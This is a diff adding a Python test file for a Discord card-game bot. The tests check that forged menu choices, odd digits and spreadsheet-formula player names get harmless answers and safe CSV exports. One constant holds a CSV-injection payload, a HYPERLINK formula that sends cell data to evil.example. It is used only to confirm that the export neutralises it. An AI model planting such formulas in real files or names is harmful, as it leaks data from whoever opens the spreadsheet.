@@ -1,0 +1,119 @@
+"""Forged and hostile input (issue #32 items 3 to 6), through the real bot on simcord.
+
+A hostile player cannot put a component on a message, but an id can travel (an old message, a
+modified client): as in ``tests/bot/test_trust_ids.py``, the bot itself posts the forged component
+(or adds it to the message it is aimed at) and the hostile player clicks it. Each click must be
+answered in a sentence to the clicker alone, must edit no message it does not belong to, and no
+ERROR may be logged (the ``no_error_logs`` fixture).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import discord
+
+from tests.bot.afrika_tables import lobby_message
+from tests.bot.table import custom_ids, last_reply, make_table
+from tests.bot.test_ratings import challenge
+from tests.bot.test_trust_ids import FORGED
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for prizes")'
+
+
+# ------------------------------------------------------------------ item 3: CSV formulas
+
+
+async def test_an_opponents_formula_name_is_text_in_the_export(simcord_env) -> None:
+    """Mallory names herself with a formula and plays Alice; Alice's export keeps it as text."""
+    env = simcord_env
+    t = make_table(env, ("alice", HYPERLINK, "-12"))
+    t.members["mallory"] = t.members[HYPERLINK]
+    t.members["minus"] = t.members["-12"]
+    await challenge(env, t, "alice", "mallory", loser="mallory")
+    await challenge(env, t, "minus", "alice", loser="alice")
+    result = await t.members["alice"].slash(t.channel, "history", export=True)
+    files = {a.filename: await a.read() for a in last_reply(result).attachments}
+    data = files[f"cardhost-matches-{t.members['alice'].id}.csv"].decode()
+    rows = list(csv.DictReader(io.StringIO(data)))
+    assert [r["opponents"] for r in rows] == ["'-12", "'" + HYPERLINK]
+    for row in rows:
+        for name, cell in row.items():
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
+    for row in rows:  # our numbers stay numbers (a rating change may be negative, or the game unrated)
+        assert int(row["match_id"]) > 0 and int(row["players"]) == 2
+        assert row["rating_change"] == "" or int(row["rating_change"]) != 0
+
+
+# ------------------------------------------------------------------ item 6: digits and empty menus
+
+
+async def _post_select(env: Any, channel: Any, custom_id: str, value: str) -> Any:
+    """A message by the bot with one select ``custom_id`` offering ``value`` (a forged menu)."""
+    view = discord.ui.View(timeout=None)
+    view.add_item(
+        discord.ui.Select(custom_id=custom_id, options=[discord.SelectOption(label="x", value=value)])
+    )
+    return await env.bot.get_channel(channel.id).send(FORGED, view=view)
+
+
+async def _choose(env: Any, member: Any, channel: Any, custom_id: str, value: str) -> str:
+    """Post the forged menu, choose ``value`` as ``member``; the sentence the bot answered."""
+    message = await _post_select(env, channel, custom_id, value)
+    result = await member.select(message, [value], custom_id=custom_id)
+    await env.settle()
+    said = [f.content for f in result.followups] or [last_reply(result).content]
+    assert result.acknowledged and said[-1].strip() and said[-1] != FORGED, f"{custom_id!r} unanswered"
+    return str(said[-1])
+
+
+ON_OUR_SIDE = "Something went wrong"
+
+
+def _lobby_id(lobby: Any) -> int:
+    """The id in a lobby message's buttons ("lb:<id>:join")."""
+    return int(next(i for i in custom_ids(lobby) if i.startswith("lb:")).split(":")[1])
+
+
+async def test_a_group_menu_value_in_other_digits_is_a_sentence(simcord_env) -> None:
+    env = simcord_env
+    t = make_table(env)
+    alice, carol = t.members["alice"], t.members["carol"]
+    await alice.slash(t.channel, "play", game="afrika")
+    live = await env.bot.matches.get(max(env.bot.matches._cache))
+    for value in ("²", "٣", "¹²"):
+        said = await _choose(env, carol, t.channel, f"mg:{live.id}:{live.seq}:0", value)
+        assert ON_OUR_SIDE not in said and "not" in said and "game" in said, said
+        said = await _choose(env, alice, t.channel, f"mg:{live.id}:{live.seq}:0", value)
+        assert ON_OUR_SIDE not in said, said
+
+
+async def test_a_puzzle_group_menu_value_in_other_digits_is_a_sentence(simcord_env) -> None:
+    env = simcord_env
+    t = make_table(env)
+    for value in ("²", "٣"):
+        said = await _choose(env, t.members["bob"], t.channel, "pzg:424242:0", value)
+        assert ON_OUR_SIDE not in said, said
+
+
+async def test_the_stops_menu_of_a_game_without_stops_is_a_sentence(simcord_env) -> None:
+    env = simcord_env
+    t = make_table(env)
+    alice = t.members["alice"]
+    said = await _choose(env, alice, t.channel, "stops:chrono", "x")
+    assert said == "Epochs Chrono has no steps to stop at: nothing to choose.", said
+    assert await env.bot.db.players.get_settings(alice.id) == {}
+
+
+async def test_a_lobby_deck_value_in_other_digits_is_a_sentence(simcord_env) -> None:
+    """A seated player of a Star Lords lobby chooses the saved deck "#²": no such deck, in words."""
+    env = simcord_env
+    t = make_table(env)
+    alice = t.members["alice"]
+    await alice.slash(t.channel, "play", game="afrika", variant="starlords", seats=3)
+    lobby_id = _lobby_id(lobby_message(t))
+    for value in ("d:²", "d:٣", "d:" + "9" * 30):
+        said = await _choose(env, alice, t.channel, f"ld:{lobby_id}", value)
+        assert said == "I don't know that deck: choose one from the menu.", said
